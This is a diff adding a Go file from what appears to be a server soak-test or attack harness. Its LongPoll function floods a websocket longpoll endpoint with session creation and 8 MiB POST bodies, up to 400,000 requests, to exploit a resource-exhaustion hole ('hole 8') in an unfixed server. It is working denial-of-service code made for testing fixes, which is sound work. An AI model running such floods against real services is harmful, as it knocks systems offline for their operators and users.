@@ -1,0 +1,98 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+
+	"net/http"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+)
+
+// LPBodySize is the size of LongPoll's oversized POSTs: 8 MiB, the limit
+// the unfixed server accepted whole.
+const LPBodySize = 8 << 20
+
+// LongPoll (hole 8) floods LongPoll: 4 workers (over keep-alive
+// connections from 4 source addresses) create sessions as fast as the
+// server answers, and 40 workers POST 8 MiB bodies to sessions of their own,
+// at once; in all at most Count requests (default 400,000). A session is a
+// GET answered with JSON status 410 and a token ("session:410"); a refused
+// one answers another status. POST answers are recorded as "post:<status>".
+func LongPoll(ctx context.Context, t Target, o Options) Result {
+	ctx, cancel := o.window(ctx)
+	defer cancel()
+	rec := newRecorder("longpoll")
+	budget := o.count(400_000)
+	var sent atomic.Int64
+	base := "http://" + t.Addr + "/socket/longpoll?vsn=2.0.0&token="
+	var wg sync.WaitGroup
+	for w := range 4 {
+		wg.Go(func() {
+			cl := httpClient(t, w, rec, 1)
+			defer cl.CloseIdleConnections()
+			for ctx.Err() == nil && sent.Add(1) <= budget {
+				_, body := do(ctx, cl, rec, "session_http", http.MethodGet, base+"user:soak_lp"+strconv.Itoa(w), nil, nil)
+				if st, ok := lpStatus(body); ok {
+					rec.http("session", st)
+				}
+			}
+		})
+	}
+	posters := min(40, o.sockets(40))
+	big := bigLPBody()
+	for w := range posters {
+		wg.Go(func() {
+			cl := httpClient(t, 4+w, rec, 1)
+			defer cl.CloseIdleConnections()
+			token := ""
+			for ctx.Err() == nil && sent.Add(1) <= budget {
+				if token == "" {
+					_, body := do(ctx, cl, rec, "session_http", http.MethodGet, base+"user:soak_lpbig"+strconv.Itoa(w), nil, nil)
+					token = lpToken(body)
+					if token == "" {
+						sleepCtx(ctx, 100e6)
+						continue
+					}
+				}
+				st, body := do(ctx, cl, rec, "post", http.MethodPost, base+token,
+					map[string]string{"Content-Type": "application/x-ndjson"}, big)
+				if js, ok := lpStatus(body); ok && st == http.StatusOK && js != 200 {
+					rec.http("post_json", js)
+				}
+				if st != http.StatusOK {
+					token = "" // the session may be gone: start another
+				}
+			}
+		})
+	}
+	wg.Wait()
+	return rec.result()
+}
+
+// bigLPBody is one text push of LPBodySize bytes (an echo with a huge
+// payload), as a LongPoll POST carries it.
+func bigLPBody() []byte {
+	head := `["1","1","room:soak_lp","echo",{"a":"`
+	tail := `"}]`
+	var b bytes.Buffer
+	b.Grow(LPBodySize)
+	b.WriteString(head)
+	b.WriteString(strings.Repeat("z", LPBodySize-len(head)-len(tail)))
+	b.WriteString(tail)
+	return b.Bytes()
+}
+
+// lpToken reads a LongPoll answer's session token.
+func lpToken(body []byte) string {
+	var v struct {
+		Token string `json:"token"`
+	}
+	if json.Unmarshal(body, &v) != nil {
+		return ""
+	}
+	return v.Token
+}
